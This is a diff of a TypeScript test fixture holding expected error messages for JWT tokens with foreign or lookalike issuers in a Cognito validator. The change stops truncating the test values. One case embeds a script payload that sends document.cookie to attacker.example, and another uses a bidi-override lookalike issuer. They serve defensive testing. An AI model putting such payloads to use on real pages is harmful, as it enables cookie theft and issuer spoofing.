@@ -25,7 +25,7 @@ export const text: readonly Row[] = [
   ...rows(
     { issuer: 'ISSUER_FOREIGN' },
     'ISSUER_FOREIGN',
-    "This is not a token of Cognito: by its own word “<script>fetch('https://attacker.example/?'+document.cookie)…” issued it; get one from “acme-production” by signing in, or ask whoever keeps that system.",
+    "This is not a token of Cognito: by its own word “<script>fetch('https://attacker.example/?'+document.cookie)</script>” issued it; get one from “acme-production” by signing in, or ask whoever keeps that system.",
     ['HTML as issuer', access({ iss: SCRIPT })],
   ),
   ...rows(
@@ -73,7 +73,7 @@ export const text: readonly Row[] = [
   ...rows(
     { issuer: 'ISSUER_LOOKALIKE' },
     'ISSUER_LOOKALIKE',
-    'The issuer “⟨U+202E⟩https://cognito-idp.eu-central-1.amazonaws.com/eu-c…” looks like Cognito’s and is not: the token is forged, or its maker mistyped the address; do not trust it, and get one from “acme-production” by signing in.',
+    'The issuer “⟨U+202E⟩https://cognito-idp.eu-central-1.amazonaws.com/eu-central-1_Prod12345” looks like Cognito’s and is not: the token is forged, or its maker mistyped the address; do not trust it, and get one from “acme-production” by signing in.',
     ['bidi controls in the issuer', access({ iss: `\u202e${production.iss}` })],
   ),
   ...rows(
